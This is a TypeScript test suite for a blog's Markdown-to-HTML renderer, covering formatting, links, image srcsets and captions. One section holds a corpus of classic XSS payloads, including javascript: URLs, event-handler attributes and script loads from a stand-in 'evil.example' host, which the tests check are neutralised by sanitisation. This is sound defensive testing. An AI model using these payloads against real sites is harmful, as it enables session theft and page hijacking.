import { describe, expect, it } from "vitest";
import { imageMarkdown } from "~/lib/markdown-image";
import { renderMarkdown } from "./markdown-pipeline.server";

describe("renderMarkdown", () => {
  it("renders GFM: headings, emphasis, tables, task lists, strikethrough, autolinks, footnotes", () => {
    const html = renderMarkdown(
      "## Title\n\n**bold** ~~gone~~ www.example.org\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n\nNote[^1]\n\n[^1]: The note.\n",
    );
    expect(html).toContain("<h2>Title</h2>");
    expect(html).toContain("<strong>bold</strong>");
    expect(html).toContain("<del>gone</del>");
    expect(html).toContain("<table>");
    expect(html).toContain('href="http://www.example.org"');
    expect(html).toMatch(/<input[^>]*type="checkbox"[^>]*checked[^>]*disabled/);
    // Footnote link and target agree, so the link works.
    const target = /<a href="#([^"]+)"[^>]*data-footnote-ref/.exec(html)?.[1];
    expect(target).toBeTruthy();
    expect(html).toContain(`id="${target}"`);
  });

  it("makes a # heading an h2: the page title is the only h1", () => {
    expect(renderMarkdown("# Top\n\n## Next")).toBe("<h2>Top</h2>\n<h2>Next</h2>");
  });

  it("keeps relative and https links and images; external links get rel=noopener noreferrer", () => {
    const html = renderMarkdown("[in](/blog/x) [out](https://example.org/a) ![pic](/images/a-640.webp)");
    expect(html).toContain('<a href="/blog/x">in</a>');
    expect(html).toContain('<a href="https://example.org/a" rel="noopener noreferrer">out</a>');
    expect(html).toContain('<img src="/images/a-640.webp" alt="pic">');
  });

  it("never throws on odd input", () => {
    for (const input of ["", "\u0000", "[".repeat(5000), "*".repeat(10000), "<".repeat(3000), "\uD800"]) {
      expect(typeof renderMarkdown(input)).toBe("string");
    }
  });
});

/**
 * Classic XSS vectors (OWASP's filter-evasion list and friends), as an
 * administrator or an attacker with a stolen session might type them into a
 * post body. Each must come out harmless: checked against an allow-list of
 * elements and attributes, not a deny-list of known-bad strings.
 */
const XSS_CORPUS: string[] = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  '<img src=x onerror="alert(1)">',
  "<img src=x onerror=alert(1)//",
  '<IMG SRC="javascript:alert(1);">',
  "<IMG SRC=JaVaScRiPt:alert(1)>",
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
  "<body onload=alert(1)>",
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  "<style>@import 'https://evil.example/x.css';body{background:red}</style>",
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<svg onload="alert(1)"><circle r="10"/></svg>',
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<input autofocus onfocus="alert(1)">',
  '<details open ontoggle="alert(1)"><summary>x</summary></details>',
  '<a href="javascript:alert(1)">click</a>',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<video><source onerror="alert(1)"></video>',
  '<p onmouseover="alert(1)">hover</p>',
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](  javascript:alert(1))",
  "[click](&#106;avascript:alert(1))",
  "[click](javascript&colon;alert(1))",
  "[click](vbscript:msgbox(1))",
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[click](<javascript:alert(1)>)",
  '[click](https://example.org "title\\" onmouseover=\\"alert(1)")',
  "![img](javascript:alert(1))",
  "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  '![img](https://example.org/a.png"onerror="alert(1))',
  "<javascript:alert(1)>",
  "[ref]\n\n[ref]: javascript:alert(1)",
  "```html\n<script>alert(1)</script>\n```",
  "`<img src=x onerror=alert(1)>`",
  '<a href="#" id="location">clobber</a><form name="cookie"></form>',
  "<!-- --><script>alert(1)</script> -->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<template><script>alert(1)</script></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="https://example.org" target="_blank">tabnabbing</a>',
];

const ALLOWED_TAGS = new Set([
  "a",
  "b",
  "blockquote",
  "br",
  "code",
  "dd",
  "del",
  "details",
  "div",
  "dl",
  "dt",
  "em",
  "h2",
  "h3",
  "h4",
  "h5",
  "h6",
  "hr",
  "i",
  "img",
  "input",
  "ins",
  "kbd",
  "li",
  "ol",
  "p",
  "pre",
  "q",
  "rp",
  "rt",
  "ruby",
  "s",
  "samp",
  "section",
  "span",
  "strike",
  "strong",
  "sub",
  "summary",
  "sup",
  "table",
  "tbody",
  "td",
  "tfoot",
  "th",
  "thead",
  "tr",
  "tt",
  "ul",
  "var",
]);
const SAFE_URL = /^(https?:\/\/|mailto:|tel:|\/(?!\/)|#|[\w.~-]+(\/|$|[?#]))/i;

/** Every tag and attribute of rehype-stringify's (well-formed) output. */
function tagsOf(html: string) {
  return [...html.matchAll(/<([a-z][a-z0-9-]*)((?:\s+[^\s=>]+(?:="[^"]*")?)*)\s*\/?>/gi)].map((m) => ({
    name: m[1]!.toLowerCase(),
    attributes: [...m[2]!.matchAll(/(?<!\S)([^\s=>]+)(?:="([^"]*)")?/g)].map((a) => ({
      name: a[1]!.toLowerCase(),
      value: (a[2] ?? "")
        .replace(/&#x([0-9a-f]+);/gi, (_, h: string) => String.fromCodePoint(parseInt(h, 16)))
        .replace(/&amp;/g, "&"),
    })),
  }));
}

describe("sanitisation: the XSS corpus comes out harmless", () => {
  it.each(XSS_CORPUS.map((vector) => [vector]))("%s", (vector) => {
    const html = renderMarkdown(vector);
    // Anything that looks like a tag must be one the parser saw as a tag, not leftover markup.
    const opened = (html.match(/</g) ?? []).length;
    const tags = tagsOf(html);
    const closing = (html.match(/<\//g) ?? []).length;
    expect(tags.length + closing).toBe(opened);
    for (const tag of tags) {
      expect(ALLOWED_TAGS, `tag <${tag.name}> in ${html}`).toContain(tag.name);
      for (const attribute of tag.attributes) {
        expect(attribute.name, `attribute ${attribute.name} in ${html}`).not.toMatch(
          /^on|^style$|^srcdoc$|^formaction$|^xlink|^target$/,
        );
        if (["href", "src", "cite", "longdesc", "action", "data"].includes(attribute.name)) {
          expect(attribute.value.trim(), `${attribute.name} in ${html}`).toMatch(SAFE_URL);
          // eslint-disable-next-line no-control-regex -- browsers ignore control characters in a URL scheme
          expect(attribute.value.replace(/[\s\u0000-\u001f]/g, "")).not.toMatch(/^(javascript|vbscript|data):/i);
        }
        if (attribute.name === "id" || attribute.name === "name") {
          expect(attribute.value).toMatch(/^user-content-|^footnote-label$/);
        }
      }
    }
    expect(html).not.toMatch(
      /<(script|style|iframe|object|embed|svg|math|form|base|meta|link|template|noscript|video|source)\b/i,
    );
  });

  it("keeps the text of a code block, escaped", () => {
    const html = renderMarkdown("```html\n<script>alert(1)</script>\n```");
    expect(html).toContain("&#x3C;script>alert(1)&#x3C;/script>");
  });
});

describe("images in the body", () => {
  const id = "a".repeat(64);
  const other = "b".repeat(64);
  const sizes = { [id]: { width: 1600, height: 900 }, [other]: { width: 640, height: 640 } };

  it("gives an upload srcset of its stored widths, sizes, width and height from its stored size", () => {
    const html = renderMarkdown(`![A harbour](/images/${id}-1600.webp)`, sizes);
    const widths = [320, 640, 960, 1280, 1600].map((w) => `/images/${id}-${w}.webp ${w}w`).join(", ");
    expect(html).toBe(
      `<p><img src="/images/${id}-1600.webp" alt="A harbour" srcset="${widths}" sizes="(min-width: 768px) 768px, 100vw" width="1600" height="900" decoding="async"></p>`,
    );
  });

  it("sizes a smaller variant by the stored ratio, and lazy-loads every upload but the first", () => {
    const html = renderMarkdown(`![one](/images/${other}-640.webp)\n\n![two](/images/${id}-640.webp)`, sizes);
    expect(html).toContain(`src="/images/${other}-640.webp" alt="one" srcset="/images/${other}-320.webp 320w`);
    expect(html).toMatch(/alt="one"[^>]*width="640" height="640" decoding="async">/);
    expect(html).toMatch(/alt="two"[^>]*width="640" height="360" loading="lazy" decoding="async">/);
  });

  it("leaves out width and height when the upload's size is unknown, and keeps its srcset", () => {
    const html = renderMarkdown(`![x](/images/${"c".repeat(64)}-960.webp)`, sizes);
    expect(html).toContain("srcset=");
    expect(html).not.toContain("width=");
  });

  it("turns a title into the figcaption of a figure in place of its paragraph", () => {
    const html = renderMarkdown(`![A harbour](/images/${id}-1600.webp "Ojai at dawn")`, sizes);
    expect(html).toMatch(
      /^<figure><img src="[^"]+" alt="A harbour" srcset="[^"]+"[^>]*><figcaption>Ojai at dawn<\/figcaption><\/figure>$/,
    );
    expect(html).not.toContain("title=");
  });

  it("splits a paragraph around a captioned image: text before and after stay paragraphs", () => {
    const html = renderMarkdown(`Before ![x](https://example.org/a.png "Cap") after`);
    expect(html).toBe(
      '<p>Before </p><figure><img src="https://example.org/a.png" alt="x"><figcaption>Cap</figcaption></figure><p> after</p>',
    );
  });

  it("escapes a caption: markup in a title is text", () => {
    const html = renderMarkdown(`![x](/images/${id}-1600.webp "<script>alert(1)</script> & <b>")`, sizes);
    expect(html).toContain("<figcaption>&#x3C;script>alert(1)&#x3C;/script> &#x26; &#x3C;b></figcaption>");
    expect(html).not.toContain("<script");
  });

  it("leaves outside images as the sanitiser left them, and images in links unwrapped", () => {
    expect(renderMarkdown("![x](https://example.org/a.png)")).toBe(
      '<p><img src="https://example.org/a.png" alt="x"></p>',
    );
    const linked = renderMarkdown(`[![x](/images/${id}-1600.webp "Cap")](/blog/a)`, sizes);
    expect(linked).not.toContain("<figure>");
    expect(linked).toContain('title="Cap"');
    expect(renderMarkdown('![x](javascript:alert(1) "Cap")')).not.toContain("javascript");
  });
});

describe("the editor's image markdown (imageMarkdown)", () => {
  const id = "d".repeat(64);
  it("renders back to the alt text and caption the writer typed, brackets, quotes and backslashes included", () => {
    const markdown = imageMarkdown(`/images/${id}-640.webp`, 'A [bracketed] \\ "alt"', 'He said "hi" \\ then\nleft');
    const html = renderMarkdown(markdown, { [id]: { width: 640, height: 480 } });
    expect(html).toContain('alt="A [bracketed] \\ &#x22;alt&#x22;"');
    expect(html).toContain('<figcaption>He said "hi" \\ then left</figcaption>');
  });

  it("leaves the title out when there is no caption, and a decorative image's alt empty", () => {
    expect(imageMarkdown("/images/x.webp", "", "")).toBe("![](/images/x.webp)");
    expect(renderMarkdown(imageMarkdown("/images/x.webp", ""))).toBe('<p><img src="/images/x.webp" alt=""></p>');
  });
});
